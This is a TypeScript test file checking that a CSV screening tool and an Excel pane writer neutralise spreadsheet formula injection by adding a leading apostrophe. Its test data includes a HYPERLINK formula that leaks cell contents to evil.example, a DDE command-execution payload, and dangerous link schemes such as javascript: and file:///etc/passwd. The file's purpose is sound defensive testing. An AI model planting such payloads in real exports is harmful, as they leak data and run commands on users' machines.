import fs from "node:fs";
import path from "node:path";
import { parseCsv } from "../../src/cli/csv";
import { isWebAddress } from "../../src/contract";
import { inertText } from "../../src/sheet";
import { excelCell } from "../../taskpane/excel/writer";
import { screen, tempDir, testEnv } from "./support";

/**
 * str-screen's CSV is opened in spreadsheets, which read a field that starts with =, +, -, @, a tab
 * or a carriage return as a formula. Every such text gets OWASP's leading apostrophe, the user's
 * cells as the service's; numbers stay numbers; the pane's writer keeps the same rule.
 */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1:A2)",
  "\tleading tab",
  "\rleading return",
];

describe("CSV output: text never becomes a formula", () => {
  test("each formula-like note is written with a leading apostrophe; plain text and numbers as they were", async () => {
    const dir = tempDir();
    const input = path.join(dir, "deals.csv");
    const rows = FORMULAS.map((note, i) => `"${10 + i} Main St, Austin TX",450000,3,2,6,"${note.replace(/"/g, '""')}"`);
    rows.push('"30 Main St, Austin TX",450000,3,2,6,plain note');
    fs.writeFileSync(input, `Address,Price,Beds,Baths,Guests,Notes\n${rows.join("\n")}\n`);
    const out = path.join(dir, "out.csv");
    const r = await screen([input, "--out", out], testEnv(path.join(dir, "data")));
    expect(r.code).toBe(0);
    const table = parseCsv(fs.readFileSync(out, "utf8"));
    const header = table.findIndex((row) => row.includes("Notes"));
    const notes = (table[header] ?? []).indexOf("Notes");
    const price = (table[header] ?? []).indexOf("Price");
    const body = table.slice(header + 1).filter((row) => row.length > 1);
    expect(body.map((row) => row[notes])).toEqual([...FORMULAS.map((f) => `'${f}`), "plain note"]);
    expect(body.every((row) => row[price] === "450000")).toBe(true);
    // No field of the file starts a formula: not the user's cells, not the service's text.
    const fields = table.flat();
    expect(fields.length).toBeGreaterThan(100);
    expect(fields.filter((f) => /^[=+\-@\t\r]/.test(f) && !/^-?\d+(\.\d+)?(e-?\d+)?$/i.test(f))).toEqual([]);
  });

  test("the pane's writer and the CSV share one rule; links only over http(s)", () => {
    for (const text of [...FORMULAS, "plain", "12 Main St"]) {
      expect(excelCell({ value: text }, false).value).toBe(inertText(text));
    }
    expect(inertText("=1+1")).toBe("'=1+1");
    expect(inertText("plain")).toBe("plain");
    expect(excelCell({ value: -5 }, false).value).toBe(-5);
    expect(isWebAddress("https://reports.example/a")).toBe(true);
    for (const link of ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "=HYPERLINK(1)"]) {
      expect(isWebAddress(link)).toBe(false);
      expect(excelCell({ value: link }, true).value).not.toMatch(/^=/);
    }
  });
});
